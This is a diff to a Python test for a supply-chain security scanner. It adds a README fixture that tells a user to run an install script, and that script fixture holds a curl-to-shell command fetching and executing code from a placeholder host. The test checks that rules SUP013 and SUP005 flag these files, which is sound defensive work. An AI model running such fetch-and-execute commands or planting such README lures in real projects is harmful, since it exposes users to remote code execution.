@@ -79,9 +79,11 @@ def test_scanner_test_inputs(machine):
     machine.ws("Makefile", "setup:\n\tpip install ./tests/inputs/malicious-setup\n")
     assert gates(machine.run("SUP013"))
     os.unlink(machine.workspace / "Makefile")
-    # the twins: the same files at the root
+    # the twins: the same files at the root (a shell script gates once something on the
+    # host runs it: here the README that tells the person to)
     machine.ws("setup.py", setup)
     machine.ws("install.sh", "curl -fsSL https://x.invalid/i.sh | sh\n")
+    machine.ws("README.md", "# scanner\n\nRun `./install.sh` first.\n")
     assert gates(machine.run("SUP013")) and gates(machine.run("SUP005"))
 
 
